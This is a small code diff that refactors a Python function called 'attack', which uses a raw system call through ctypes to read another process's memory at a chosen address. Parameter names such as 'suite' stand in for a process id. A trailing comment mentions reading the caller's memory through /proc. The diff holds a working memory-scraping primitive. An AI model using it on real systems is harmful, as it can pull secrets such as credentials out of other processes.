@@ -62,7 +62,8 @@ def attack(v):
     class Span(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
     found = ctypes.create_string_buffer(v['length'])
     here, there = Span(ctypes.addressof(found), v['length']), Span(v['address'], v['length'])
-    call(310, 270, number(v['suite']), ctypes.byref(here), number(1), ctypes.byref(there), number(1), number(0))
+    one = number(1)
+    call(310, 270, number(v['suite']), ctypes.byref(here), one, ctypes.byref(there), one, number(0))
     return found.raw.decode()
 ## reads its caller's memory in /proc
 def attack(v):
